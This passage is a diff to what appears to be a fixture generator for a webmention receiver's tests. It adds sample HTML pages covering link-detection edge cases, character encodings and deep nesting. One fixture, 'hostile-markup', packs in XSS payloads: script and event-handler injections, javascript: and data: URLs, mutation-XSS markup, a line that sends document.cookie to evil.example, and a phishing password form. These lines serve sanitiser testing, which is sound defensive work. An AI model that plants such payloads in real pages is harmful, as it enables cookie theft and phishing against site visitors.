@@ -757,6 +757,7 @@ page("bookmark.html", static_page(
     nav=(("/", "Home"), ("/bookmarks/", "Bookmarks"), ("/about/", "About"))), {
     "links": True,
     "property": "bookmark-of",
+    "author_name": "Hannah Vogel",
     "author_url": "/",
     "name": None,
     "published": "2024-03-08T19:30:00+00:00",
@@ -1686,3 +1687,765 @@ $(document).ready(function () {
     "encoding": "utf-8",
 })
 
+# ---------------------------------------------------------------------------
+# 22. The only "link" to the target is inside HTML comments  (links: false)
+# ---------------------------------------------------------------------------
+page("link-in-html-comment.html", static_page(
+    "Draft-ish: things I want to write about \u2014 Noor Haddad",
+    """    <article class="h-entry">
+      <h1 class="p-name">Things I want to write about</h1>
+      <p class="post-meta"><a class="p-author h-card" href="/">Noor Haddad</a> &middot;
+        <a class="u-url" href="/2024/03/things-to-write-about/"><time class="dt-published" datetime="2024-03-21T09:00:00+02:00">21 March 2024</time></a></p>
+      <div class="e-content">
+        <p>A list, mostly for me, of posts that are half-written in my head:</p>
+        <ul>
+          <li>Why my bookshelf is sorted by colour and why I regret it.</li>
+          <li>The case for a personal changelog.</li>
+          <!-- <li>Webmentions: response to <a href="https://blog.example/post/1">Receiving webmentions without a database</a> (need to re-read first)</li> -->
+          <li>Cooking for one without eating the same thing four days in a row.</li>
+        </ul>
+        <!--
+          TODO before publishing:
+          - link https://blog.example/post/1 properly once I've read it again
+          - <a href="https://blog.example/post/1">source</a>
+        -->
+        <p>If one of these sounds interesting, tell me and I&rsquo;ll write it first.</p>
+      </div>
+    </article>
+    <!--[if lt IE 9]><a href="https://blog.example/post/1">old browsers link</a><![endif]-->
+""", "Noor Haddad", "noor.example"), {
+    "links": False,
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 23. Target only as plain text, plus links to *other* blog.example URLs
+#     (https://blog.example/post/12 and the home page)   (links: false)
+# ---------------------------------------------------------------------------
+page("plain-text-only.html", static_page(
+    "Link roundup #7 \u2014 Oskar Nilsson",
+    """    <article class="h-entry">
+      <h1 class="p-name">Link roundup #7</h1>
+      <p class="post-meta"><a class="p-author h-card" href="/">Oskar Nilsson</a> &middot;
+        <a class="u-url" href="/roundups/7/"><time class="dt-published" datetime="2024-03-22T12:00:00+01:00">22 March 2024</time></a></p>
+      <div class="e-content">
+        <p>This week&rsquo;s reading, with the caveat that my site&rsquo;s Markdown renderer stopped auto-linking bare URLs after an upgrade, so some of these you will have to copy and paste:</p>
+        <ol>
+          <li>Receiving webmentions without a database &mdash; https://blog.example/post/1 &mdash; the one everyone keeps sending me.</li>
+          <li><a href="https://blog.example/post/12">Styling code blocks for dark mode</a>, from the same blog.</li>
+          <li>The <a href="https://blog.example/">blog.example</a> archive in general is worth an afternoon.</li>
+          <li><a href="https://alice.example/notes/gardens">Digital gardens, five years on</a>.</li>
+          <li>Plain URL again, for the record: <code>https://blog.example/post/1</code></li>
+        </ol>
+        <p>See you next week.</p>
+      </div>
+    </article>
+""", "Oskar Nilsson", "oskar.example"), {
+    "links": False,
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 24. Target only inside <script>, <textarea>, data-* and form values
+#     (links: false)
+# ---------------------------------------------------------------------------
+page("script-textarea-only.html", static_page(
+    "Embed code for my reply widget \u2014 Yusuf Demir",
+    """    <article class="h-entry">
+      <h1 class="p-name">Embed code for my reply widget</h1>
+      <p class="post-meta"><a class="p-author h-card" href="/">Yusuf Demir</a> &middot;
+        <a class="u-url" href="/2024/03/reply-widget/"><time class="dt-published" datetime="2024-03-23T16:20:00+03:00">23 March 2024</time></a></p>
+      <div class="e-content">
+        <p>A few people asked how the little &ldquo;reply from your own site&rdquo; widget works. Paste this into your template and change the target:</p>
+        <textarea readonly rows="6" cols="70"><a href="https://blog.example/post/1">Reply to this post</a>
+<script src="/widget.js" data-target="https://blog.example/post/1"></script></textarea>
+        <p>The script reads the target from the <code>data-target</code> attribute. The preview button below is wired up with the example value:</p>
+        <button type="button" class="wm-preview" data-href="https://blog.example/post/1" data-target="https://blog.example/post/1">Preview</button>
+        <form action="/webmention" method="post">
+          <input type="hidden" name="target" value="https://blog.example/post/1">
+          <input type="url" name="source" placeholder="Your reply URL">
+          <button type="submit">Try it</button>
+        </form>
+      </div>
+    </article>
+    <script>
+      // demo wiring for the preview button above
+      var DEMO_TARGET = "https://blog.example/post/1";
+      document.querySelector('.wm-preview').addEventListener('click', function () {
+        var a = document.createElement('a');
+        a.href = DEMO_TARGET;
+        a.textContent = 'Reply to this post';
+        document.body.appendChild(a);
+        document.write('<a href="https://blog.example/post/1">written by script</a>');
+      });
+    </script>
+    <script type="application/ld+json">
+      {"@context": "https://schema.org", "@type": "BlogPosting", "headline": "Embed code for my reply widget", "citation": "https://blog.example/post/1"}
+    </script>
+""", "Yusuf Demir", "yusuf.example"), {
+    "links": False,
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 25. Only "link" is an <img src> pointing at the target (links: true)
+# ---------------------------------------------------------------------------
+page("img-src-only.html", static_page(
+    "Hotlinking, a confession \u2014 Gwen Harlow",
+    """    <article class="h-entry">
+      <h1 class="p-name">Hotlinking, a confession</h1>
+      <p class="post-meta"><a class="p-author h-card" href="/">Gwen Harlow</a> &middot;
+        <a class="u-url" href="/2024/03/hotlinking/"><time class="dt-published" datetime="2024-03-24T10:05:00+00:00">24 March 2024</time></a></p>
+      <div class="e-content">
+        <p>My post-to-image tool takes a URL and embeds a screenshot of it. Except I pointed it at the wrong thing, and for a week every embed on this page was an image tag whose source was the article itself:</p>
+        <figure>
+          <img src="https://blog.example/post/1" alt="Screenshot of the webmention guide" width="600" height="340" loading="lazy">
+          <figcaption>This should be a screenshot. It is a broken image.</figcaption>
+        </figure>
+        <p>Browsers, quite reasonably, refuse to render an HTML page as a picture. Fixed now on newer posts, leaving this one as a monument.</p>
+      </div>
+    </article>
+""", "Gwen Harlow", "gwen.example"), {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "Gwen Harlow",
+    "author_url": "/",
+    "name": "Hotlinking, a confession",
+    "published": "2024-03-24T10:05:00+00:00",
+    "content_contains": "Browsers, quite reasonably, refuse to render an HTML page as a picture.",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 26. <base href> on the target's site; relative "post/1" resolves to target.
+#     A read-later service's public "shared highlights" page: it sets <base>
+#     to the highlighted site so that the quoted excerpts' links work.
+#     Because of the <base>, this page has no links to its own host.
+# ---------------------------------------------------------------------------
+page("base-href.html", """<!DOCTYPE html>
+<html lang="en">
+<head>
+<meta charset="utf-8">
+<base href="https://blog.example/">
+<meta name="viewport" content="width=device-width, initial-scale=1">
+<title>Jun's highlights: Receiving webmentions without a database \u00b7 Quillmark</title>
+<meta property="og:site_name" content="Quillmark">
+<meta property="og:title" content="Jun's highlights: Receiving webmentions without a database">
+<style>
+body{font:17px/1.55 -apple-system,BlinkMacSystemFont,"Segoe UI",sans-serif;max-width:40rem;margin:2rem auto;padding:0 1rem;color:#222}
+header.qm{display:flex;gap:.5rem;align-items:center;font-size:.85rem;color:#666;border-bottom:1px solid #eee;padding-bottom:.5rem}
+mark{background:#fff3a3;padding:0 .1em}
+.hl{margin:1.5rem 0;padding-left:1rem;border-left:4px solid #f5d33b}
+.note{font-size:.9rem;color:#444;margin-top:.25rem}
+.qm-footer{margin-top:3rem;font-size:.8rem;color:#888}
+</style>
+</head>
+<body>
+<header class="qm">
+  <strong>Quillmark</strong> <span>&middot; shared highlights</span>
+</header>
+<article class="h-entry">
+  <h1 class="p-name">Highlights from &ldquo;Receiving webmentions without a database&rdquo;</h1>
+  <p>Shared by <a class="p-author h-card" href="https://quillmark.example/u/jun">Jun Park</a>
+     on <time class="dt-published" datetime="2024-03-25T22:14:00+09:00">25 March 2024</time>.
+     Read <a href="post/1">the original article</a> on blog.example.</p>
+  <div class="e-content">
+    <div class="hl">
+      <blockquote><mark>The receiver must fetch the source and confirm that it links to the target before it does anything else.</mark></blockquote>
+      <p class="note">Jun&rsquo;s note: this is the step our team&rsquo;s prototype skipped. Fixing on Monday.</p>
+    </div>
+    <div class="hl">
+      <blockquote><mark>One file per mention, named after a hash of the source URL.</mark> See also <a href="post/12">the follow-up on styling</a>.</blockquote>
+      <p class="note">Jun&rsquo;s note: simple enough to explain to the whole team in a standup.</p>
+    </div>
+  </div>
+</article>
+<footer class="qm-footer">
+  <p>Highlights are shared publicly by the reader who made them. Quillmark is a read-later service; <a href="https://quillmark.example/about">about</a> &middot; <a href="https://quillmark.example/privacy">privacy</a>.</p>
+</footer>
+</body>
+</html>
+""", {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "Jun Park",
+    "author_url": "https://quillmark.example/u/jun",
+    "name": "Highlights from \u201cReceiving webmentions without a database\u201d",
+    "published": "2024-03-25T22:14:00+09:00",
+    "content_contains": "this is the step our team\u2019s prototype skipped",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 27. ISO-8859-1 page (bytes written as latin-1), German, accented names
+# ---------------------------------------------------------------------------
+page("latin1.html", """<!DOCTYPE html>
+<html lang="de">
+<head>
+<meta charset="iso-8859-1">
+<meta name="viewport" content="width=device-width, initial-scale=1">
+<title>\u00dcber Webmentions, Pingbacks und das Caf\u00e9-Netz | Zo\u00eb M\u00fcllers Notizbuch</title>
+<meta name="description" content="Warum ich nach zehn Jahren Pingbacks endlich auf Webmentions umgestiegen bin.">
+<meta name="author" content="Zo\u00eb M\u00fcller">
+<link rel="stylesheet" href="/stil/haupt.css">
+<link rel="alternate" type="application/rss+xml" title="Zo\u00eb M\u00fcllers Notizbuch" href="/rss.xml">
+<link rel="webmention" href="/webmention.php">
+<style>
+body { font-family: Georgia, "Times New Roman", serif; background: #fbfaf7; color: #222; margin: 0; }
+#kopf, #inhalt, #fuss { max-width: 42em; margin: 0 auto; padding: 1em; }
+#kopf { border-bottom: 3px double #999; }
+#kopf a { color: #222; text-decoration: none; }
+.meta { color: #777; font-size: 0.85em; }
+blockquote { font-style: italic; border-left: 3px solid #ccc; margin-left: 0; padding-left: 1em; }
+#fuss { font-size: 0.8em; color: #888; border-top: 1px solid #ddd; }
+</style>
+</head>
+<body>
+<div id="kopf">
+  <h1><a href="/">Zo\u00eb M\u00fcllers Notizbuch</a></h1>
+  <p>Gedanken \u00fcber das Netz, K\u00f6ln und gutes Brot. Seit 2009.</p>
+  <ul class="menue">
+    <li><a href="/">Startseite</a></li>
+    <li><a href="/archiv/">Archiv</a></li>
+    <li><a href="/ueber-mich/">\u00dcber mich</a></li>
+    <li><a href="/impressum/">Impressum</a></li>
+  </ul>
+</div>
+<div id="inhalt">
+  <div class="h-entry">
+    <h2 class="p-name">\u00dcber Webmentions, Pingbacks und das Caf\u00e9-Netz</h2>
+    <p class="meta">Ver\u00f6ffentlicht am <time class="dt-published" datetime="2024-03-26T08:30:00+01:00">26. M\u00e4rz 2024</time>
+      von <a class="p-author h-card" href="/ueber-mich/">Zo\u00eb M\u00fcller</a>
+      &middot; <a class="u-url" href="/2024/03/webmentions-pingbacks/">Permalink</a></p>
+    <div class="e-content">
+      <p>Zehn Jahre lang hat dieses Blog Pingbacks empfangen. Die meisten davon waren Spam, ein paar waren sch\u00f6n, und einer kam von meiner Gro\u00dfmutter (die damals tats\u00e4chlich ein eigenes Blog hatte).</p>
+      <p>Jetzt stelle ich auf Webmentions um. Die Anleitung, an der ich mich orientiert habe, ist <a href="https://blog.example/post/1">\u201eReceiving webmentions without a database\u201c</a> \u2013 auf Englisch, aber gut verst\u00e4ndlich.</p>
+      <blockquote>Der Empf\u00e4nger muss die Quelle abrufen und pr\u00fcfen, ob sie wirklich auf das Ziel verlinkt.</blockquote>
+      <p>Genau das hat bei Pingbacks in der Praxis kaum jemand gemacht. Mal sehen, wie es diesmal l\u00e4uft.</p>
+      <p>Gr\u00fc\u00dfe aus K\u00f6ln, und danke an Fran\u00e7ois und J\u00f8rgen f\u00fcrs Testen!</p>
+    </div>
+  </div>
+  <div class="kommentare">
+    <h3>2 Reaktionen</h3>
+    <ol>
+      <li><strong>Ren\u00e9</strong>: Sch\u00f6ner Artikel! Funktioniert das auch mit meinem alten Serendipity-Blog?</li>
+      <li><strong>Zo\u00eb M\u00fcller</strong>: Ren\u00e9, Serendipity kann Pingbacks senden, Webmentions leider nicht.</li>
+    </ol>
+  </div>
+</div>
+<div id="fuss">
+  <p>&copy; 2009&ndash;2024 Zo\u00eb M\u00fcller &middot; <a href="/datenschutz/">Datenschutz</a> &middot; <a href="/impressum/">Impressum</a></p>
+</div>
+</body>
+</html>
+""".replace("\u201e", "&bdquo;").replace("\u201c", "&ldquo;").replace("\u2013", "&ndash;"), {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "Zo\u00eb M\u00fcller",
+    "author_url": "/ueber-mich/",
+    "name": "\u00dcber Webmentions, Pingbacks und das Caf\u00e9-Netz",
+    "published": "2024-03-26T08:30:00+01:00",
+    "content_contains": "Gr\u00fc\u00dfe aus K\u00f6ln, und danke an Fran\u00e7ois und J\u00f8rgen",
+    "encoding": "iso-8859-1",
+}, encoding="iso-8859-1")
+
+# ---------------------------------------------------------------------------
+# 28. Shift_JIS page (Japanese), meta charset shift_jis
+# ---------------------------------------------------------------------------
+page("shift-jis.html", """<!DOCTYPE html>
+<html lang="ja">
+<head>
+<meta charset="shift_jis">
+<meta name="viewport" content="width=device-width, initial-scale=1">
+<title>\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u308b\u4ed5\u7d44\u307f\u3092\u4f5c\u3063\u305f\u8a71 - \u5c71\u7530\u82b1\u5b50\u306e\u65e5\u8a18</title>
+<meta name="description" content="\u30c7\u30fc\u30bf\u30d9\u30fc\u30b9\u306a\u3057\u3067\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u3063\u3066\u307f\u307e\u3057\u305f\u3002">
+<link rel="stylesheet" href="/css/diary.css">
+<link rel="alternate" type="application/rss+xml" title="\u5c71\u7530\u82b1\u5b50\u306e\u65e5\u8a18" href="/index.rdf">
+<style>
+body { font-family: "\uff2d\uff33 \uff30\u30b4\u30b7\u30c3\u30af", "Hiragino Kaku Gothic ProN", sans-serif; line-height: 1.8; background: #fffdf5; }
+#wrap { width: 720px; margin: 0 auto; }
+.day h2 { border-bottom: 1px dotted #c96; font-size: 110%; }
+.sidebar { font-size: 90%; color: #555; }
+</style>
+</head>
+<body>
+<div id="wrap">
+<h1><a href="/">\u5c71\u7530\u82b1\u5b50\u306e\u65e5\u8a18</a></h1>
+<p class="sidebar">\u30a6\u30a7\u30d6\u3068\u6599\u7406\u3068\u732b\u306e\u3053\u3068\u3002<a href="/about.html">\u30d7\u30ed\u30d5\u30a3\u30fc\u30eb</a> | <a href="/archive/">\u904e\u53bb\u30ed\u30b0</a></p>
+<div class="day h-entry">
+  <h2 class="p-name">\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u308b\u4ed5\u7d44\u307f\u3092\u4f5c\u3063\u305f\u8a71</h2>
+  <p class="meta"><time class="dt-published" datetime="2024-03-27T21:00:00+09:00">2024\u5e743\u670827\u65e5</time>
+    <a class="p-author h-card" href="/">\u5c71\u7530 \u82b1\u5b50</a>
+    <a class="u-url" href="/diary/20240327.html">#</a></p>
+  <div class="e-content">
+    <p>\u4ee5\u524d\u304b\u3089\u6c17\u306b\u306a\u3063\u3066\u3044\u305f\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u3001\u3088\u3046\u3084\u304f\u81ea\u5206\u306e\u30b5\u30a4\u30c8\u3067\u3082\u53d7\u3051\u53d6\u308c\u308b\u3088\u3046\u306b\u3057\u307e\u3057\u305f\u3002</p>
+    <p>\u53c2\u8003\u306b\u3057\u305f\u306e\u306f<a href="https://blog.example/post/1">\u3053\u306e\u8a18\u4e8b</a>\u3067\u3059\u3002\u30c7\u30fc\u30bf\u30d9\u30fc\u30b9\u3092\u4f7f\u308f\u305a\u306b\u3001\u30d5\u30a1\u30a4\u30eb\u3060\u3051\u3067\u7ba1\u7406\u3059\u308b\u65b9\u6cd5\u304c\u66f8\u304b\u308c\u3066\u3044\u307e\u3059\u3002</p>
+    <p>\u9001\u4fe1\u5143\u306e\u30da\u30fc\u30b8\u3092\u53d6\u5f97\u3057\u3066\u3001\u672c\u5f53\u306b\u30ea\u30f3\u30af\u304c\u3042\u308b\u304b\u78ba\u8a8d\u3059\u308b\u3068\u3053\u308d\u304c\u5927\u4e8b\u3060\u305d\u3046\u3067\u3059\u3002\u732b\u304c\u30ad\u30fc\u30dc\u30fc\u30c9\u306e\u4e0a\u3067\u5bdd\u3066\u3044\u308b\u306e\u3067\u3001\u4eca\u65e5\u306f\u3053\u3053\u307e\u3067\u3002</p>
+  </div>
+</div>
+<p class="sidebar">\u30b3\u30e1\u30f3\u30c8\uff08\uff10\uff09 | <a href="/diary/20240326.html">\u524d\u306e\u65e5</a> | <a href="/diary/20240328.html">\u6b21\u306e\u65e5</a></p>
+<div class="day">
+  <h2>猫の体重測定</h2>
+  <p>今月も猫の体重を測りました。四キロ二百グラム。先月より少し増えています。おやつを減らすべきか、それとも運動させるべきか、家族会議の議題になりそうです。</p>
+</div>
+<div class="sidebar">
+  <h3>最近の日記</h3>
+  <ul>
+    <li><a href="/diary/20240327.html">ウェブメンションを受け取る仕組みを作った話</a></li>
+    <li><a href="/diary/20240320.html">春分の日のおはぎ</a></li>
+    <li><a href="/diary/20240314.html">ホワイトデーのクッキー</a></li>
+    <li><a href="/diary/20240309.html">図書館で借りた本</a></li>
+    <li><a href="/diary/20240302.html">ひなまつりの準備</a></li>
+  </ul>
+  <h3>リンク</h3>
+  <ul>
+    <li><a href="https://alice.example/">Aliceさんのサイト</a></li>
+    <li><a href="https://keiko.example/">田中さんのメモ</a></li>
+  </ul>
+</div>
+<hr>
+<p class="sidebar">Copyright &copy; 2003-2024 \u5c71\u7530\u82b1\u5b50. All rights reserved.</p>
+</div>
+</body>
+</html>
+""", {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "\u5c71\u7530 \u82b1\u5b50",
+    "author_url": "/",
+    "name": "\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u308b\u4ed5\u7d44\u307f\u3092\u4f5c\u3063\u305f\u8a71",
+    "published": "2024-03-27T21:00:00+09:00",
+    "content_contains": "\u30c7\u30fc\u30bf\u30d9\u30fc\u30b9\u3092\u4f7f\u308f\u305a\u306b\u3001\u30d5\u30a1\u30a4\u30eb\u3060\u3051\u3067\u7ba1\u7406\u3059\u308b\u65b9\u6cd5",
+    "encoding": "shift_jis",
+}, encoding="shift_jis")
+
+# ---------------------------------------------------------------------------
+# 29. UTF-16 (little-endian, with BOM), e.g. saved by a Windows editor
+# ---------------------------------------------------------------------------
+page("utf16.html", """<!DOCTYPE html>
+<html lang="is">
+<head>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-16">
+<meta name="viewport" content="width=device-width, initial-scale=1">
+<title>Vefsamskipti \u00e1n gagnagrunns \u2014 \u00d3lafur Ragnarsson</title>
+<link rel="stylesheet" href="/style.css">
+<style>
+body { font-family: "Segoe UI", Tahoma, sans-serif; max-width: 44em; margin: 2em auto; padding: 0 1em; color: #1b1b1b; }
+.meta { color: #666; font-size: 0.9em; }
+nav a { margin-right: 1em; }
+footer { margin-top: 4em; border-top: 1px solid #ccc; font-size: 0.8em; color: #777; }
+</style>
+</head>
+<body>
+<nav><a href="/">Heim</a><a href="/greinar/">Greinar</a><a href="/um/">Um mig</a></nav>
+<article class="h-entry">
+  <h1 class="p-name">Vefsamskipti \u00e1n gagnagrunns</h1>
+  <p class="meta">
+    <span class="p-author h-card"><a class="p-name u-url" href="/">\u00d3lafur Ragnarsson</a></span> \u2014
+    <a class="u-url" href="/greinar/vefsamskipti/"><time class="dt-published" datetime="2024-03-28T13:37:00+00:00">28. mars 2024</time></a>
+  </p>
+  <div class="e-content">
+    <p>\u00c9g hef veri\u00f0 a\u00f0 pr\u00f3fa webmention \u00e1 s\u00ed\u00f0unni minni. Lei\u00f0beiningarnar sem \u00e9g fylgdi eru h\u00e9r: <a href="https://blog.example/post/1">Receiving webmentions without a database</a>.</p>
+    <p>Stutta \u00fatg\u00e1fan: \u00fea\u00f0 \u00feurfti engan gagnagrunn, bara m\u00f6ppu og sm\u00e1 \u00feolinm\u00e6\u00f0i. \U0001F9CA</p>
+    <p>\u00deessi s\u00ed\u00f0a er vistu\u00f0 \u00ed UTF-16, \u00fev\u00ed ritillinn minn \u00e1 Windows gerir \u00fea\u00f0 sj\u00e1lfkrafa.</p>
+  </div>
+</article>
+<footer><p>\u00a9 2024 \u00d3lafur Ragnarsson \u00b7 <a href="/feed.xml">RSS</a></p></footer>
+</body>
+</html>
+""", {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "\u00d3lafur Ragnarsson",
+    "author_url": "/",
+    "name": "Vefsamskipti \u00e1n gagnagrunns",
+    "published": "2024-03-28T13:37:00+00:00",
+    "content_contains": "\u00fea\u00f0 \u00feurfti engan gagnagrunn, bara m\u00f6ppu og sm\u00e1 \u00feolinm\u00e6\u00f0i",
+    "encoding": "utf-16",
+}, encoding="utf-16")
+
+# ---------------------------------------------------------------------------
+# 30. Hostile markup inside a reply: scripts, on* handlers, javascript: URLs,
+#     iframes, style attributes, SVG, meta refresh in body, form, object
+# ---------------------------------------------------------------------------
+page("hostile-markup.html", static_page(
+    "Re: Receiving webmentions without a database \u2014 Mallory Quinn",
+    """    <article class="h-entry" onmouseover="alert('entry')">
+      <p class="reply-context">In reply to <a class="u-in-reply-to" href="https://blog.example/post/1" onclick="steal(document.cookie)">Receiving webmentions without a database</a></p>
+      <div class="e-content" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:url(javascript:alert(1))">
+        <p>I tried your verification endpoint with a few odd payloads and it handled all of them gracefully.</p>
+        <script>alert('xss in content');document.location='https://evil.example/?c='+document.cookie</script>
+        <img src="/nonexistent.png" onerror="alert('onerror in content')" alt="">
+        <p style="color:red;font-size:120px" onclick="alert(2)">Please sanitise before display.</p>
+        <a href="javascript:alert('js link')">click me</a>
+        <a href="JaVaScRiPt:location='https://blog.example/post/1?stolen='+document.cookie">obfuscated js link</a>
+        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url link</a>
+        <iframe src="https://evil.example/frame.html" width="1" height="1" style="display:none"></iframe>
+        <iframe srcdoc="&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;"></iframe>
+        <svg width="10" height="10" onload="alert('svg')"><a href="javascript:alert(3)"><circle cx="5" cy="5" r="4"/></a></svg>
+        <object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>
+        <embed src="https://evil.example/x.swf">
+        <form action="https://evil.example/phish" method="post"><input name="password" type="password" placeholder="Re-enter your password"><button formaction="javascript:alert(4)">Log in</button></form>
+        <meta http-equiv="refresh" content="0;url=https://evil.example/">
+        <style>body{display:none!important}</style>
+        <link rel="stylesheet" href="https://evil.example/evil.css">
+        <div style="background-image:url('https://evil.example/track.gif')">tracking pixel via style</div>
+        <math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext></math>
+        <p>Anyway, nice write-up &lt;3 &mdash; the <b>queue</b> idea is solid.</p>
+      </div>
+      <p class="post-meta">
+        <a class="p-author h-card" href="/"><img class="avatar" src="/img/mallory.png" onerror="this.src='javascript:alert(6)'" alt="">Mallory Quinn</a>
+        &middot; <a class="u-url" href="/replies/2024/03/29/"><time class="dt-published" datetime="2024-03-29T03:03:03+00:00">29 March 2024</time></a>
+      </p>
+    </article>
+""", "Mallory Quinn", "mallory.example",
+    extra_head='  <script>window.onload=function(){document.body.innerHTML+="<img src=x onerror=alert(7)>"}</script>'), {
+    "links": True,
+    "property": "in-reply-to",
+    "author_name": "Mallory Quinn",
+    "author_url": "/",
+    "name": None,
+    "published": "2024-03-29T03:03:03+00:00",
+    "content_contains": "I tried your verification endpoint with a few odd payloads and it handled all of them gracefully.",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 31. Very deeply nested but valid markup (page-builder wrappers, nested
+#     quotes in the content, deeply threaded comments).  Maximum element
+#     depth is around 375: deep, but within what html5lib/lxml/mf2py handle
+#     with Python's default recursion limit.
+# ---------------------------------------------------------------------------
+def deep_page():
+    wrap_open, wrap_close = [], []
+    for i in range(250):
+        kind = ("div", "section")[i % 7 == 3]
+        cls = ("elementor-element elementor-element-%05x elementor-widget-wrap" % (i * 7919 % 0xfffff)
+               if kind == "div" else "elementor-section elementor-inner-section")
+        wrap_open.append('<%s class="%s" data-id="%05x">' % (kind, cls, i * 104729 % 0xfffff))
+        wrap_close.append("</%s>" % kind)
+    quote_open = "".join('<blockquote class="quote-level-%d"><div class="quote-body">' % i
+                         for i in range(60))
+    quote_close = "</div></blockquote>" * 60
+    comments = ""
+    for i in range(45):
+        comments += ('<ol class="children"><li class="comment depth-%d" id="comment-%d">'
+                     '<p class="comment-text">%s</p>' % (
+                         i + 2, 500 + i,
+                         ("Still agreeing with the comment above." if i % 3 else
+                          "Replying to keep the thread going, level %d." % (i + 2))))
+    comments += "</li></ol>" * 45
+    inner = (
+        '<article class="h-entry elementor-post">'
+        '<h1 class="p-name elementor-heading-title">A page builder ate my blog</h1>'
+        '<div class="elementor-post-info"><span class="p-author h-card"><a class="p-name u-url" href="/">Ada Okonkwo</a></span> '
+        '<time class="dt-published" datetime="2024-03-30T09:45:00+01:00">30 March 2024</time> '
+        '<a class="u-url" href="/2024/03/page-builder/">#</a></div>'
+        '<div class="e-content elementor-widget-container">'
+        '<p>I let a page builder redesign my blog and the result nests every element inside a few hundred wrappers.</p>'
+        + quote_open +
+        '<p>At the very bottom of this email-style quote chain is the link that started it: '
+        '<a href="https://blog.example/post/1">Receiving webmentions without a database</a>.</p>'
+        + quote_close +
+        '<p>If your parser survived this far, congratulations.</p>'
+        '</div></article>'
+        '<div class="comments-area"><h2>Comments</h2><ol class="comment-list"><li class="comment depth-1" id="comment-499">'
+        '<p class="comment-text">Top-level comment.</p>' + comments + '</li></ol></div>'
+    )
+    return T("""<!DOCTYPE html>
+<html lang="en">
+<head>
+<meta charset="utf-8">
+<meta name="viewport" content="width=device-width, initial-scale=1">
+<title>A page builder ate my blog &#8211; Ada Okonkwo</title>
+<meta property="og:site_name" content="Ada Okonkwo">
+<link rel="stylesheet" href="/wp-content/plugins/elementor/assets/css/frontend.min.css?ver=3.20.1">
+<link rel="stylesheet" href="/wp-content/uploads/elementor/css/post-77.css?ver=1711787100">
+</head>
+<body class="post-template-default single single-post elementor-default elementor-kit-5 elementor-page elementor-page-77">
+<div data-elementor-type="wp-post" data-elementor-id="77" class="elementor elementor-77">
+{{open}}
+{{inner}}
+{{close}}
+</div>
+<script src="/wp-content/plugins/elementor/assets/js/frontend.min.js?ver=3.20.1"></script>
+</body>
+</html>
+""", open="\n".join(wrap_open), inner=inner, close="".join(reversed(wrap_close)))
+
+
+page("deeply-nested.html", deep_page(), {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "Ada Okonkwo",
+    "author_url": "/",
+    "name": "A page builder ate my blog",
+    "published": "2024-03-30T09:45:00+01:00",
+    "content_contains": "At the very bottom of this email-style quote chain is the link that started it",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 32. POSSE'd post with u-syndication links and rel=canonical (to itself)
+# ---------------------------------------------------------------------------
+page("syndication-canonical.html", static_page(
+    "Webmention testing checklist \u2014 Theo Marsh",
+    """    <article class="h-entry">
+      <h1 class="p-name">Webmention testing checklist</h1>
+      <p class="post-meta">
+        <span class="p-author h-card"><img class="u-photo avatar" src="/theo.jpg" alt=""><a class="p-name u-url" href="/">Theo Marsh</a></span>
+        &middot; <a class="u-url" href="/syndication-canonical.html"><time class="dt-published" datetime="2024-04-01T12:00:00+00:00">1 April 2024</time></a>
+      </p>
+      <div class="e-content">
+        <p>Before I ship anything that receives webmentions, I run through this list:</p>
+        <ol>
+          <li>Does it reject a source that does not link to the target?</li>
+          <li>Does it handle the source being deleted (410) later?</li>
+          <li>Does it survive a source that is 40 megabytes of nonsense?</li>
+          <li>Does it sanitise the displayed content?</li>
+        </ol>
+        <p>Most of the list comes from <a href="https://blog.example/post/1">Receiving webmentions without a database</a>; item three is my own, learned the hard way.</p>
+      </div>
+      <p class="post-meta">Also posted to:
+        <a class="u-syndication" rel="syndication" href="https://social.example/@theo/112201938476102938">social.example</a>,
+        <a class="u-syndication" rel="syndication" href="https://news.example/item?id=39884012">news.example</a>,
+        <a class="u-syndication" rel="syndication" href="https://theo.micro.example/2024/04/01/webmention-testing-checklist.html">micro.example</a>
+      </p>
+    </article>
+""", "Theo Marsh", "theo.example",
+    extra_head='  <link rel="canonical" href="/syndication-canonical.html">\n'
+               '  <link rel="shortlink" href="/s/4Kq">\n'
+               '  <meta property="og:url" content="/syndication-canonical.html">'), {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "Theo Marsh",
+    "author_url": "/",
+    "name": "Webmention testing checklist",
+    "published": "2024-04-01T12:00:00+00:00",
+    "content_contains": "item three is my own, learned the hard way",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 33. Explicit u-mention-of
+# ---------------------------------------------------------------------------
+page("mention-of-explicit.html", static_page(
+    "Mentioned: webmentions without a database \u2014 Sofia Greco",
+    """    <article class="h-entry">
+      <div class="e-content">
